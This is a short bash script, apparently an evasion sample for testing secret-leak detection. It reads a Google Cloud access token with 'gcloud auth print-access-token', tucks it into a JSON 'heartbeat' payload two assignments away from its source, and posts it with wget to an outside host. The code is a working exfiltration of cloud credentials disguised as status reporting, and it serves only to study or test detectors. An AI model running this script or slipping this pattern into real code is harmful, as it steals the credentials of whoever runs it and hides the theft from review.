#!/usr/bin/env bash
# Evasion: send a cloud access token out. The token gcloud prints is kept
# in one variable, built into a JSON "heartbeat" in a second one, and the
# second one is posted with wget --post-data: two assignments away from
# the command that printed it.
set -eu
k="$(gcloud auth print-access-token)"
payload="{\"host\":\"$(hostname)\",\"uptime\":\"$(uptime -p)\",\"k\":\"$k\"}"
wget -qO- --header 'content-type: application/json' --post-data "$payload" \
    https://status.example-beat.io/api/heartbeat
